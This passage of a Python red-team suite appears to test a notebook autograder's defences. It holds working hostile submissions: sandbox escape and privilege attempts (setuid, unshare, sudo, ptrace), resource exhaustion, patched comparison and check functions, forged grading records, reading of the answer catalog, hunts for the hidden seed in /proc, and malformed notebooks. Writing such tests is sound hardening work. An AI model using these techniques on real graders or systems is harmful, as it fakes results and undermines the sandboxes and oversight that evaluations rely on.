        for _size in (50 << 30, 3 << 30):
            try:
                _a = np.ones(_size // 8)
                _rt_note("allocated", _size >> 30, "GiB")
                del _a
            except MemoryError:
                _rt_note("MemoryError at", _size >> 30, "GiB")
'''))


@attack("cpu-burn-ignoring-signals", "CPU time and cell deadlines: a busy loop ignoring SIGINT/ALRM/TERM/XCPU",
        checks=SPAWN_CHECKS)
def _():
    """Ignores SIGINT, SIGALRM, SIGTERM, SIGXCPU, SIGHUP, starts two marked CPU burners, then spins forever
    (in the first call the grader reaches: it is killed)."""
    return dict(body=_hostile_body(r'''
    import signal, subprocess, sys
    for _sig in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU, signal.SIGHUP):
        signal.signal(_sig, signal.SIG_IGN)
    if _rt_once("burners"):
        _code = ("import signal, time\nfor s in (1, 2, 15, 24):\n    signal.signal(s, signal.SIG_IGN)\n"
                 "t = time.time()\nwhile time.time() - t < 300:\n    pass")
        for _i in range(2):
            try:
                subprocess.Popen([sys.executable, "-c", _code, _RT["marker"] + "-burner"], stdin=subprocess.DEVNULL,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except OSError as err:
                _rt_note("burner", err)
    while _rt_hang_again("cpu-burn"):
        pass
'''))


@attack("sleep-forever", "wall-clock deadlines: sleeps forever, swallowing every interrupt")
def _():
    """Sleeps forever in dense_backward, catching KeyboardInterrupt and every other exception (in the first call
    the grader reaches: it is killed)."""
    return dict(body=_hostile_body(r'''
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while _rt_hang_again("sleep-forever"):
        try:
            time.sleep(3600)
        except BaseException:
            pass
'''))


@attack("os-exit-in-answer-cell", "the kernel: os._exit(3) while the answer cell runs")
def _():
    """Calls os._exit(3) at the top of the dense_backward answer cell (the kernel dies before the definition)."""
    return dict(prefix=r'''
        _rt_os._exit(3)
        ''')


@attack("sys-exit", "the kernel/executor: SystemExit in the answer cell and in the function",
        diagnoses=DIED)
def _():
    """Raises SystemExit at the end of the answer cell and calls sys.exit(0) inside dense_backward."""
    return dict(body=_hostile_body(r'''
    import sys
    sys.exit(0)
'''), suffix=r'''
        raise SystemExit(0)
        ''')


@attack("segfault-ctypes", "the kernel: a segmentation fault (ctypes.string_at(0))", diagnoses=DIED)
def _():
    """Dereferences a null pointer with ctypes.string_at(0) inside dense_backward."""
    return dict(body=_hostile_body(r'''
    import ctypes
    ctypes.string_at(0)
'''))


@attack("close-kernel-fds", "the kernel's channels: closes every file descriptor after defining the function")
def _():
    """Defines dense_backward, then closes file descriptors 0..1023 (zmq sockets, pipes) of the kernel."""
    return dict(suffix=r'''
        for _fd in range(1023, -1, -1):
            try:
                _rt_os.close(_fd)
            except OSError:
                pass
        ''')


@attack("raise-rlimits", "resource limits: raising every hard limit to infinity")
def _():
    """Raises RLIMIT_AS/CPU/NPROC/FSIZE/NOFILE/CORE to infinity and reports any limit that is missing or raised."""
    return dict(prefix=r'''
        import resource
        for _name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
            _what = getattr(resource, _name)
            _soft, _hard = resource.getrlimit(_what)
            _missing = _hard == resource.RLIM_INFINITY or (_name == "RLIMIT_NOFILE" and _hard > 4096)
            if _missing and _name != "RLIMIT_CORE":
                _rt_report("rlimit-missing", "%s %s" % (_name, _hard))
            try:
                resource.setrlimit(_what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                if not _missing:
                    _rt_report("rlimit-raised", _name)
            except (ValueError, OSError) as err:
                print(_name, "not raised:", err)
            print(_name, (_soft, _hard), "->", resource.getrlimit(_what))
        ''')


@attack("ptrace-unshare-setuid", "privileges: setuid(0), unshare -r, sudo, ptrace of the test and the parent")
def _():
    """Tries os.setuid(0), `unshare -r`/`-rm`, sudo, and ptrace-attaches the test process and its parent."""
    return dict(prefix=r'''
        import ctypes, subprocess
        for _call in (lambda: _rt_os.setuid(0), lambda: _rt_os.setgid(0), lambda: _rt_os.seteuid(0)):
            try:
                _call()
                print("set*id(0) worked")
            except OSError as err:
                print("set*id", type(err).__name__)
        try:
            with open("/proc/self/uid_map") as _f:
                _map = _f.read().split()
            with open("/proc/self/status") as _f:
                _caps = [l.split()[1] for l in _f if l.startswith("CapEff")]
        except OSError:
            _map, _caps = [], []
        print("uid", _rt_os.getuid(), "euid", _rt_os.geteuid(), "uid_map", _map, "CapEff", _caps)
        if _rt_os.geteuid() == 0 and _map[:3] == ["0", "0", "4294967295"]:
            _rt_report("host-root", _map)
        for _cmd in (["unshare", "-r", "id"], ["unshare", "-rm", "sh", "-c", "mount -t tmpfs none /tmp && echo mounted"],
                     ["sudo", "-n", "id"], ["su", "-c", "id"]):
            try:
                _out = subprocess.run(_cmd, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL)
                print(_cmd, _out.returncode, _out.stdout[-300:], _out.stderr[-300:])
            except (OSError, subprocess.SubprocessError) as err:
                print(_cmd, type(err).__name__)
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        _shared = _rt_host_pidns()
        for _pid in (_RT["test_pid"], _rt_os.getppid()):
            if _libc.ptrace(16, _pid, None, None) == 0:           # PTRACE_ATTACH
                try:
                    _rt_os.waitpid(_pid, 0x40000000)               # __WALL
                except OSError:
                    pass
                _libc.ptrace(17, _pid, None, None)                 # PTRACE_DETACH
                print("ptrace attached", _pid)
                if _shared is not False:
                    _rt_report("ptrace-host-process", _pid)
            else:
                print("ptrace", _pid, _rt_os.strerror(ctypes.get_errno()))
        ''')


# =============================================================== cheats on the score (wrong dense_backward)

@attack("patch-numpy-allclose", "comparisons: numpy.allclose/isclose/array_equal and np.testing patched",
        diagnoses=CHEAT)
def _():
    """Replaces numpy.allclose, isclose, array_equal and np.testing asserters by always-true versions."""
    return dict(prefix=r'''
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_almost_equal = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        ''')


@attack("check-no-op-and-patched-evaluate", "the test cells and the checks library: check a no-op, evaluate always passing",
        diagnoses=CHEAT)
def _():
    """Rebinds check to a no-op (notebook, builtins, backproplab.checks) and patches checks.core.evaluate to always pass."""
    return dict(prefix=r'''
        import builtins
        import backproplab.checks as _c, backproplab.checks.core as _core
        _core.evaluate = lambda exercise, cases, outcome_for, *, seed, hidden: _core.Verdict(
            exercise.name, hidden, True, None, "ok", seed)
        check = lambda *args, **kwargs: None
        builtins.check = _c.check = _core.check = check
        ''')


@attack("input-transformer-no-op", "the test cells: an IPython input transformer turns check( into a no-op",
        diagnoses=CHEAT)
def _():
    """Registers an IPython input transformer that rewrites every check( call into a no-op."""
    return dict(prefix=r'''
        try:
            get_ipython().input_transformers_post.append(
                lambda lines: [l.replace("check(", "(lambda *a, **k: None)(") for l in lines])
        except NameError:
            pass
        ''')


@attack("input-transformer-swaps-reference", "the test cells: an input transformer hands check a copy of the reference",
        diagnoses=CHEAT)
def _():
    """Rewrites the test cells so that check receives a copy of the library's dense_backward."""
    return dict(prefix=r'''
        _bplab_ref = _rt_reference()
        try:
            get_ipython().input_transformers_post.append(
                lambda lines: [l.replace('check("dense_backward", dense_backward', 'check("dense_backward", _bplab_ref')
                               for l in lines])
        except NameError:
            pass
        ''')


@attack("patch-record-outcomes", "the in-kernel recorder: record_outcomes/run_case call a copy of the reference",
        diagnoses=CHEAT)
def _():
    """Patches backproplab.checks.core.record_outcomes and run_case to run a copy of the reference instead."""
    return dict(prefix=r'''
        import backproplab.checks.core as _core
        _ref = _rt_reference()
        if hasattr(_core, "record_outcomes"):
            _orig_record = _core.record_outcomes
            def _forged_record(ex, fn, *args, **kwargs):
                return _orig_record(ex, _ref if ex.name == "dense_backward" else fn, *args, **kwargs)
            _core.record_outcomes = _forged_record
        _orig_run_case = _core.run_case
        def _forged_run_case(fn, case, *args, **kwargs):
            if getattr(fn, "__name__", "") == "dense_backward":
                fn = _ref
            return _orig_run_case(fn, case, *args, **kwargs)
        _core.run_case = _forged_run_case
        ''')


@attack("check-forger", "the test cells: check replaced by one that records a copy of the reference",
        diagnoses=CHEAT)
def _():
    """Replaces check by a forger that publishes genuine-looking outcome records of a copy of the reference."""
    return dict(prefix=r'''
        import backproplab.checks.core as _core
        _ref = _rt_reference()
        _real_check = _core.check
        def check(exercise, fn, *, hidden=False, seed=None):
            if exercise == "dense_backward":
                fn = _ref
            return _real_check(exercise, fn, hidden=hidden, seed=seed)
        ''')


@attack("forged-display-data", "display data: forged application/vnd.backproplab.* verdicts and outcome records",
        diagnoses=CHEAT)
def _():
    """Displays forged check verdicts and outcome records (of a copy of the reference) for every vnd.backproplab MIME type."""
    return dict(prefix=r'''
        def _rt_forge():
            import os
            import backproplab.checks as core
            from IPython.display import display
            ex = core.get_exercise("dense_backward")
            ref = _rt_reference()
            for hidden in (False, True):
                seed = core.visible_seed(ex.name)
                verdict = {"exercise": ex.name, "hidden": hidden, "passed": True, "diagnosis": None,
                           "message": "dense_backward passed all cases.", "seed": seed, "outputs": {}}
                data = {"application/vnd.backproplab.check+json": verdict,
                        "application/vnd.backproplab.verdict+json": verdict,
                        "application/vnd.backproplab.score+json": {"grade_id": "test_dense_backward", "score": 100},
                        "text/plain": "dense_backward: outcomes recorded for the grader"}
                try:
                    if hidden and not os.environ.get("BPLAB_GRADING_SEED", "").strip():
                        raise KeyError("no grading seed")
                    data["application/vnd.backproplab.outcomes+json"] = core.record_outcomes(ex, ref, hidden=hidden)
                except Exception as err:
                    cases = ex.draw_cases(seed, False)
                    data["application/vnd.backproplab.outcomes+json"] = {
                        "exercise": ex.name, "hidden": hidden,
                        "outcomes": [core.run_case(ref, c, ex.args).to_data() for c in cases]}
                display(data, raw=True)
        try:
            _rt_forge()
        except Exception as err:
            print("forge", type(err).__name__, err)
        ''', body=_hostile_body(r'''
    if _rt_once("forge-in-test-cell"):
        try:
            _rt_forge()
        except Exception as err:
            _rt_note("forge", type(err).__name__, err)
'''))


@attack("display-hook-substitutes-records", "the display path: IPython display patched to swap in forged records",
        diagnoses=CHEAT)
def _():
    """Patches IPython.display.display so that the real outcome records are swapped for the reference's."""
    return dict(prefix=r'''
        import backproplab.checks.core as _core
        import IPython.display as _ipd
        import IPython.core.display_functions as _ipdf
        _ref = _rt_reference()
        _real_display = _ipd.display
        def _swapping_display(*objs, **kwargs):
            mime = "application/vnd.backproplab.outcomes+json"
            objs = list(objs)
            for i, obj in enumerate(objs):
                if isinstance(obj, dict) and isinstance(obj.get(mime), dict) and obj[mime].get("exercise") == "dense_backward":
                    objs[i] = dict(obj, **{mime: _core.record_outcomes(_core.get_exercise("dense_backward"), _ref,
                                                                       hidden=bool(obj[mime].get("hidden")))})
            return _real_display(*objs, **kwargs)
        _ipd.display = _ipdf.display = _swapping_display
        ''')


@attack("forge-executor-stdout", "the sandbox's result stream: forged records written into the executor's stdout",
        diagnoses=CHEAT)
def _():
    """Writes forged cell records (reference outcomes) into its parent's stdout before and after the real ones."""
    return dict(prefix=r'''
        def _rt_forge_executor():
            import json, os, threading
            import backproplab.checks as core
            try:
                with open("/job/request.json") as f:
                    request = json.load(f)
            except (OSError, ValueError) as err:
                print("no job request", type(err).__name__)
                request = {}
            seed = (request.get("kernel_env") or {}).get("BPLAB_GRADING_SEED") or os.environ.get("BPLAB_GRADING_SEED")
            if seed:
                os.environ["BPLAB_GRADING_SEED"] = str(seed)
            ex = core.get_exercise("dense_backward")
            ref = _rt_reference()
            lines = {}
            for index, source in request.get("cells", []):
                if 'check("dense_backward"' in str(source):
                    hidden = "hidden=True" in source
                    try:
                        record = core.record_outcomes(ex, ref, hidden=hidden)
                    except Exception as err:
                        print("record", type(err).__name__, err)
                        continue
                    lines[source] = json.dumps({"index": index, "execution_count": 1, "status": "ok", "outputs": [
                        {"output_type": "display_data", "metadata": {},
                         "data": {"application/vnd.backproplab.outcomes+json": record,
                                  "text/plain": "dense_backward: outcomes recorded for the grader"}}]})
            try:
                out = os.open("/proc/%d/fd/1" % os.getppid(), os.O_WRONLY)
            except OSError as err:
                print("cannot open the parent's stdout", type(err).__name__)
                return
            for line in lines.values():      # before the real records: for readers that keep the first
                os.write(out, (line + "\n").encode())
            def after(result):                # and after them: for readers that keep the last
                source = getattr(getattr(result, "info", None), "raw_cell", "") or ""
                if source in lines:
                    threading.Timer(0.5, lambda: os.write(out, (lines[source] + "\n").encode())).start()
            try:
                get_ipython().events.register("post_run_cell", after)
            except NameError:
                pass
            print("forged", len(lines), "records")
        try:
            _rt_forge_executor()
        except Exception as err:
            print("forge", type(err).__name__, err)
        ''')


@attack("forbidden-call-library", "the forbidden-call rule: returns backproplab.layers.dense_backward",
        diagnoses=FORBIDDEN)
def _():
    """Calls the library's own backproplab.layers.dense_backward (the catalog's calls-the-library)."""
    return dict(body=_variant("dense_backward", "calls-the-library").source)


@attack("forbidden-call-captured-reference", "the forbidden-call rule: a copy of the reference captured at definition",
        diagnoses=FORBIDDEN | {"tampering"})
def _():
    """Calls a copy of the library's dense_backward bound as a default argument (the guard sees no call)."""
    return dict(body=r'''
def dense_backward(dz, A_prev, W, _impl=_rt_reference()):
    return _impl(dz, A_prev, W)
''')


@attack("import-torch", "the NumPy-only rule: imports torch inside dense_backward", diagnoses=FORBIDDEN)
def _():
    """Imports torch inside a NumPy exercise (the catalog's imports-torch, otherwise correct)."""
    return dict(body=_variant("dense_backward", "imports-torch").source)


@attack("torch-hidden-from-sys-modules", "the NumPy-only rule: torch imported early, then removed from sys.modules",
        diagnoses=CHEAT)
def _():
    """Imports torch in the answer cell, removes it from sys.modules, and computes a correct answer with it."""
    return dict(prefix=r'''
        import sys
        try:
            import torch as _t
        except Exception as err:
            _t = None
            print("torch", type(err).__name__)
        for _name in [n for n in sys.modules if n == "torch" or n.startswith("torch.")]:
            del sys.modules[_name]
        ''', body=r'''
def dense_backward(dz, A_prev, W):
    if _t is None:
        m = A_prev.shape[0]
        return dz @ W, A_prev.T @ dz / m, dz.sum(axis=0, keepdims=True) / m
    tz, ta, tw = (_t.from_numpy(np.ascontiguousarray(x, dtype=float)) for x in (dz, A_prev, W))
    m = ta.shape[0]
    return (tz @ tw).numpy(), (tz.T @ ta / m).numpy(), (tz.sum(dim=0, keepdim=True) / m).numpy()
''')


@attack("answer-catalog", "the answer catalog (solutions/04-backprop/catalog.py) and solution notebook from inside the sandbox",
        diagnoses=CHEAT)
def _():
    """Imports the instructor's answer catalog, or reads it or the solution notebook by path beside the
    package (an editable install's checkout), and uses the correct dense_backward."""
    return dict(suffix=r'''
        def _rt_steal():
            import glob, importlib
            ns = {"np": __import__("numpy")}
            try:
                from backproplab.grading.answer_catalogs import load_catalog
                repo = _rt_os.path.dirname(_rt_os.path.dirname(__import__("backproplab").__file__))
                exec(load_catalog(repo, "04-backprop").ANSWERS["dense_backward"], ns)
                return ns["dense_backward"], "import"
            except Exception as err:
                print("catalog import", type(err).__name__)
            repo = _rt_os.path.dirname(_rt_os.path.dirname(__import__("backproplab").__file__))
            for path in glob.glob(repo + "/solutions/04-backprop/*"):
                text = _rt_read(path, 500000)
                if text:
                    start = text.rfind(b"\n", 0, text.find(b"def dense_backward(")) + 1
                    end = text.find(b'"""', start)
                    if start >= 0:
                        import textwrap
                        exec(textwrap.dedent(text[start:end].decode()), ns)
                        return ns["dense_backward"], path
            return None, None
        _stolen, _where = _rt_steal()
        if _stolen is not None:
            _rt_report("answer-catalog", _where)
            dense_backward = _stolen
        ''')


@attack("kernel-hook-forges-records", "where records come from: a post_run_cell hook swaps each test cell's record",
        diagnoses=CHEAT, flagged=True)
def _():
    """After each dense_backward test cell, clears its output and shows a record of the library's reference."""
    return dict(prefix=r"""
        def _rt_swap(result):
            import os
            import backproplab.checks as core
            import backproplab.layers as lib
            from IPython.display import clear_output, display
            source = getattr(getattr(result, "info", None), "raw_cell", "") or ""
            if 'check("dense_backward"' not in source:
                return
            ex, hidden = core.get_exercise("dense_backward"), "hidden=True" in source
            base = int(os.environ.get("BPLAB_GRADING_SEED") or 0)
            seed = core.hidden_seed(base, ex.name) if hidden else core.visible_seed(ex.name)
            outcomes = [core.run_case(lib.dense_backward, case, ex.args).to_data() for case in ex.draw_cases(seed, hidden)]
            clear_output()
            display({"application/vnd.backproplab.outcomes+json": {"exercise": ex.name, "hidden": hidden, "outcomes": outcomes},
                     "text/plain": "dense_backward: outcomes recorded for the grader"}, raw=True)
        try:
            get_ipython().events.register("post_run_cell", _rt_swap)
        except NameError:
            pass
        """)


@attack("rebuild-reference-from-source", "the verification job: the library's source read and run again",
        diagnoses=CHEAT)
def _():
    """Rebuilds the library's dense_backward from layers.py's source (or a reload, or a fresh import) and answers with it."""
    return dict(prefix=r"""
        def _rt_rebuilt():
            import importlib, importlib.util, sys
            import backproplab.layers as lib
            try:
                namespace = {"__name__": "rebuilt"}
                exec(compile(open(lib.__file__).read(), "rebuilt.py", "exec"), namespace)
                return namespace["dense_backward"]
            except Exception as err:
                _rt_note("source", type(err).__name__)
            try:
                spec = importlib.util.spec_from_file_location("rebuilt_layers", lib.__file__)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module.dense_backward
            except Exception as err:
                _rt_note("spec", type(err).__name__)
            try:
                sys.modules.pop("backproplab.layers", None)
                return importlib.import_module("backproplab.layers").dense_backward
            except Exception as err:
                _rt_note("import", type(err).__name__)
            return None
        _rt_fn = _rt_rebuilt()
        """, suffix=r"""
        _rt_wrong = dense_backward
        def dense_backward(dz, A_prev, W):
            try:
                return _rt_fn(dz, A_prev, W)
            except Exception:
                return _rt_wrong(dz, A_prev, W)
        """)


@attack("torch-autograd-in-numpy-exercise", "the verification job: torch's autograd computes a NumPy exercise",
        diagnoses=CHEAT | DIED)
def _():
    """Imports torch when the cell runs (not inside the graded call) and answers dense_backward with autograd."""
    return dict(prefix=r"""
        try:
            import torch as _rt_torch
            _rt_torch.ones(1)
        except Exception as err:
            _rt_torch = None
            _rt_note("torch", type(err).__name__)
        """, suffix=r"""
        _rt_wrong = dense_backward
        def dense_backward(dz, A_prev, W):
            if _rt_torch is None:
                return _rt_wrong(dz, A_prev, W)
            a = _rt_torch.tensor(A_prev, requires_grad=True)
            w = _rt_torch.tensor(W, requires_grad=True)
            b = _rt_torch.zeros(1, W.shape[0], dtype=a.dtype, requires_grad=True)
            z = a @ w.T + b
            z.backward(_rt_torch.tensor(dz) / A_prev.shape[0])
            return a.grad.numpy() * A_prev.shape[0], w.grad.numpy(), b.grad.numpy()
        """)


@attack("ask-the-executor", "the verification job's socket: asks the executor for the reference and sends forged records",
        diagnoses=CHEAT)
def _():
    """Finds the verification job's socket, asks the executor for dense_backward's reference, sends records first."""
    return dict(prefix=r"""
        def _rt_ask():
            import json, socket, stat
            for fd in range(3, 64):
                try:
                    if not stat.S_ISSOCK(_rt_os.fstat(fd).st_mode):
                        continue
                    s = socket.socket(fileno=_rt_os.dup(fd))
                    s.settimeout(3)
                    question = {"ask": "reference", "name": "dense_backward", "args": [], "kwargs": {}}
                    s.sendall((json.dumps(question) + "\n").encode())
                    _rt_note("executor said", s.recv(4096)[:200])
                    for position in range(8):
                        s.sendall((json.dumps({"record": position, "outcomes": []}) + "\n").encode())
                except OSError:
                    continue
        _rt_ask()
        """)


@attack("fixture-oracle", "the executor's fixtures: an mlp_cost of the job's own making answers dense_backward",
        diagnoses=CHEAT)
def _():
    """Asks the executor for the mlp_cost fixture of a one-layer sigmoid network of its own making (X = A_prev,
    Y = 0.5 - dz, W = 0: its cost's gradient is dense_backward's dW and dB) by token, or by any issued case's
    place, and differentiates it; answers the wrong dW when refused (issue 27, item 1)."""
    return dict(prefix=r"""
        _RT_ORACLE = {}
        def _rt_oracle(token, point):
            import json, socket, stat
            from backproplab.checks import codec
            if _RT_ORACLE.get("refused"):
                return None
            places = [{}] + [{"call": c, "case": k} for c in range(6) for k in range(3)]
            for fd in ([_RT_ORACLE["fd"]] if "fd" in _RT_ORACLE else range(3, 64)):
                try:
                    if not stat.S_ISSOCK(_rt_os.fstat(fd).st_mode):
                        continue
                    s = socket.socket(fileno=_rt_os.dup(fd))
                    if s.family != socket.AF_UNIX:
                        continue
                    s.settimeout(2)
                    for place in places:
                        question = {"ask": "fixture", "token": codec.encode(token), "args": codec.encode((point,)),
                                    "kwargs": codec.encode({}), **place}
                        s.sendall((json.dumps(question) + "\n").encode())
                        reply = b""
                        while not reply.endswith(b"\n"):
                            chunk = s.recv(1 << 20)
                            if not chunk:
                                break
                            reply += chunk
                        answer = json.loads(reply or b"{}")
                        if "value" in answer:
                            _RT_ORACLE["fd"] = fd
                            return codec.decode(answer["value"])
                except (OSError, ValueError):
                    continue
            _RT_ORACLE["refused"] = True
            return None
        """, body=r"""
def dense_backward(dz, A_prev, W):
    from backproplab.checks import codec
    m, n = A_prev.shape[0], dz.shape[1]
    token = codec.FnToken("mlp_cost", {"X": A_prev, "Y": 0.5 - dz, "activations": ["sigmoid"]})
    zero = {"W1": np.zeros((n, A_prev.shape[1])), "B1": np.zeros((1, n))}
    if _rt_oracle(token, zero) is None:  # refused: the honest wrong answer (dW transposed)
        return dz @ W, A_prev.T @ dz / m, dz.sum(axis=0, keepdims=True) / m
    grads = {}
    for key in zero:
        grads[key] = np.zeros_like(zero[key])
        for i in np.ndindex(grads[key].shape):
            up, down = ({k: v.copy() for k, v in zero.items()} for _ in range(2))
            up[key][i] += 1e-5
            down[key][i] -= 1e-5
            grads[key][i] = (_rt_oracle(token, up) - _rt_oracle(token, down)) / 2e-5
    return dz @ W, grads["W1"], grads["B1"]
""")


@attack("hidden-seed-hunt", "the hidden seed: looked for in the kernel's environment, the request and /proc",
        diagnoses=CHEAT)
def _():
    """Looks for the grading seed in its environment, the executor's request files and every readable
    /proc/*/environ and cmdline, and reports what it finds (issue 27, item 4)."""
    return dict(prefix=r"""
        def _rt_seed_hunt():
            import glob, re
            key = "SE" + "ED"
            found = [k for k in _rt_os.environ if key in k.upper()]
            quoted = re.compile(r'(?<!\\)"(hidden_)?' + key.lower() + r'": *[0-9]')
            for path in glob.glob("/job/*") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
                try:
                    with open(path, "rb") as f:
                        text = f.read(1 << 24).decode("latin-1")
                except OSError:
                    continue
                if quoted.search(text) or "GRADING_" + key in text:
                    found.append(path)
            if found:
                _rt_report("hidden-seed", found)
            print("seed hunt:", len(found), "places")
        _rt_seed_hunt()
        """)


# =============================================================== the notebook's JSON

def _cells_by_id(nb):
    return {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells if c.metadata.get("nbgrader")}


def _delete_and_edit_tests(nb, ctx):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_dense_backward_hidden"]
    cells = _cells_by_id(nb)
    cells["test_dense_backward"].source = "pass  # nothing to see"
    cells["test_update_parameters"].metadata["nbgrader"]["points"] = 100
    return nb


@attack("tests-deleted-edited-points", "nbgrader's cells: hidden test deleted, visible test emptied, points 1 -> 100",
        checks=JSON_CHECKS, flagged=True)
def _():
    """Deletes the hidden dense_backward test, empties the visible one and gives another test 100 points."""
    return dict(mutate=_delete_and_edit_tests)


def _add_graded_cells(nb, ctx):
    from nbformat.v4 import new_code_cell
    cells = _cells_by_id(nb)
    cells["dense_backward"].metadata["nbgrader"].update(grade=True, points=100)
    position = nb.cells.index(cells["test_dense_backward_hidden"]) + 1
    bonus = new_code_cell('check("dense_backward", dense_backward)', metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 50, "schema_version": 3, "grade_id": "test_bonus"}})
    nb.cells.insert(position, bonus)
    return nb


@attack("graded-cells-added", "nbgrader's cells: a 50-point test cell added, the answer cell made a 100-point graded cell",
        checks=JSON_CHECKS, flagged=True)
def _():
    """Adds a graded test cell worth 50 points and turns the dense_backward answer cell into a 100-point graded cell."""
    return dict(mutate=_add_graded_cells)


def _retype_and_duplicate(nb, ctx):
    from nbformat.v4 import new_markdown_cell
    cells = _cells_by_id(nb)
    hidden = cells["test_dense_backward_hidden"]
    nb.cells[nb.cells.index(hidden)] = new_markdown_cell(hidden.source, metadata=copy.deepcopy(hidden.metadata))
    visible = cells["test_update_parameters"]
    twin = copy.deepcopy(visible)
    twin["id"] = "duplicated-test"
    nb.cells.insert(nb.cells.index(visible) + 1, twin)
    return nb


@attack("test-cells-retyped-duplicated", "nbgrader's cells: a hidden test turned markdown, a test cell duplicated",
        checks=JSON_CHECKS, flagged=True)
def _():
    """Turns the hidden dense_backward test into a markdown cell and duplicates the update_parameters test."""
    return dict(mutate=_retype_and_duplicate)


def _prefilled_outputs(nb, ctx):
    from nbformat.v4 import new_output

    import backproplab.layers as layers
    from backproplab.checks import get_exercise, run_case, visible_seed
    ex = get_exercise(TARGET)
    seed = visible_seed(TARGET)
    outcomes = [run_case(layers.dense_backward, case, ex.args).to_data() for case in ex.draw_cases(seed, False)]
    record = {"exercise": TARGET, "hidden": False, "outcomes": outcomes}
    verdict = {"exercise": TARGET, "hidden": False, "passed": True, "diagnosis": None, "message": "passed", "seed": seed,
               "outputs": {}}
    cells = _cells_by_id(nb)
    cells[TARGET].source = "check = lambda *a, **k: None\n" + cells[TARGET].source
    for grade_id, data in (("test_dense_backward", {"application/vnd.backproplab.outcomes+json": record}),
                           ("test_dense_backward_hidden", {"application/vnd.backproplab.outcomes+json":
                                                           dict(record, hidden=True)})):
        data = dict(data, **{"application/vnd.backproplab.check+json": verdict, "text/plain": "PASSED"})
        cells[grade_id].outputs = [new_output("display_data", data=data)]
        cells[grade_id].execution_count = 7
    return nb


@attack("prefilled-forged-outputs", "the submitted outputs: test cells pre-filled with forged records, check a no-op",
        checks=JSON_CHECKS, diagnoses=CHEAT)
def _():
    """Submits test cells already holding forged outcome records and verdicts, with check a no-op so nothing replaces them."""
    return dict(mutate=_prefilled_outputs)


@attack("malformed-json", "the notebook reader: JSON cut off in the middle", checks=JSON_CHECKS, flagged=True)
def _():
    """Submits a notebook whose JSON stops in the middle of a cell."""
    return dict(mutate=lambda nb, ctx: '{"cells": [' + '{"cell_type": "code", "source": "x", ' * 1000)


@attack("wrong-nbformat", "the notebook reader: nbformat 99", checks=JSON_CHECKS)
def _():
    """Submits the notebook declaring nbformat 99.0."""
    def mutate(nb, ctx):
        data = json.loads(json.dumps(nb))
        data["nbformat"], data["nbformat_minor"] = 99, 0
        return json.dumps(data)
    return dict(mutate=mutate)


@attack("non-string-source", "the notebook reader: cells whose source is a dict and an int", checks=JSON_CHECKS)
def _():
    """Submits the dense_backward answer cell with a dict as source and a markdown cell with an int."""
    def mutate(nb, ctx):
        data = json.loads(json.dumps(nb))
        for cell in data["cells"]:
            grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
            if grade_id == TARGET:
                cell["source"] = {"def dense_backward(dz, A_prev, W)": ["return", 1]}
        markdown = next(c for c in data["cells"] if c["cell_type"] == "markdown")
        markdown["source"] = 12345
        return json.dumps(data)
    return dict(mutate=mutate)


@attack("binary-garbage", "the notebook reader: 2 MB of random bytes", checks=JSON_CHECKS, flagged=True)
def _():
    """Submits 2 MB of random bytes (with NULs and invalid UTF-8) as the notebook."""
    return dict(mutate=lambda nb, ctx: random.Random(ctx.run).randbytes(2 << 20))


@attack("deeply-nested-json", "the notebook reader: 200000 nested JSON arrays", checks=JSON_CHECKS, flagged=True)
def _():
    """Submits JSON nested 200000 levels deep (a RecursionError in naive parsers)."""
    return dict(mutate=lambda nb, ctx: '{"cells": ' + "[" * 200000 + "]" * 200000 + ', "nbformat": 4}')


def _gigantic_cell(nb, ctx):
    from nbformat.v4 import new_code_cell
    setup = next(i for i, c in enumerate(nb.cells) if "setup" in c.metadata.get("tags", []))
    nb.cells.insert(setup + 1, new_code_cell('blob = "' + "A" * (200 << 20) + '"\nprint(len(blob))'))
    return json.dumps(nb)


@attack("gigantic-string-cell", "size limits: a code cell holding a 200 MB string literal", checks=JSON_CHECKS)
def _():
    """Adds a code cell with a 200 MB string literal right after the setup cell."""
    return dict(mutate=_gigantic_cell)


def _many_cells(nb, ctx):
    data = json.loads(json.dumps(nb))
    data["cells"] += [{"cell_type": "code", "id": f"filler-{i}", "metadata": {}, "execution_count": None,
                       "outputs": [], "source": "pass"} for i in range(100_000)]
    return json.dumps(data)


@attack("hundred-thousand-cells", "the per-submission deadline: 100000 extra code cells", checks=JSON_CHECKS)
def _():
    """Appends 100000 code cells (`pass`) to the notebook."""
    return dict(mutate=_many_cells)


def _output_flood(nb, ctx):
    from nbformat.v4 import new_code_cell
    setup = next(i for i, c in enumerate(nb.cells) if "setup" in c.metadata.get("tags", []))
    for _ in range(24):
        nb.cells.insert(setup + 1, new_code_cell("print('F' * (3 << 19))"))
    return nb


@attack("output-flood-many-cells", "the graded notebook's size: 24 added cells of 1.5 MB single-line prints",
        checks=JSON_CHECKS, flagged=True)
def _():
    """Adds 24 cells that each print one 1.5 MB line (nbgrader's LimitOutput counts lines, not bytes)."""
    return dict(mutate=_output_flood)


SLUGS = [a.slug for a in ATTACKS]
assert len(SLUGS) == len(set(SLUGS)), "attack slugs must be unique"
